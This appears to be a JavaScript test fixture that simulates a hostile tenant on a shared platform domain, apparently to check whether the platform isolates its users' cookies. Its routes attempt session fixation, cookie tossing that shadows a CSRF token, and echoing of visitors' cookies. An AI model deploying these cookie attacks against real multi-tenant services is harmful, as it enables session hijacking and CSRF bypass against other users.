// A hostile customer on the platform's domain.
export default {
  fetch(request) {
    const { pathname } = new URL(request.url);
    if (pathname === '/hijack') {
      // Tries to overwrite the platform's session for the whole domain (session fixation).
      return new Response('Nice cookies you have', {
        headers: [
          ['set-cookie', 'platform_session=attacker-fixed; Domain=platform.example; Path=/'],
          ['set-cookie', '__Host-platform_session=attacker-fixed; Path=/; Secure'],
          ['set-cookie', 'mallory_pref=dark; Path=/'],
        ],
      });
    }
    if (pathname === '/toss') {
      // Cookie tossing: a cookie with a harmless name, set for the whole domain, reaches the dashboard and every
      // other customer (here it would shadow the dashboard's CSRF token).
      return new Response('Have a cookie', { headers: [['set-cookie', 'csrf_token=attacker-chosen; Domain=platform.example; Path=/']] });
    }
    // "Analytics": repeats every cookie the browser sent.
    return new Response(`mallory saw cookies: ${request.headers.get('cookie') ?? '(none)'}`);
  },
};
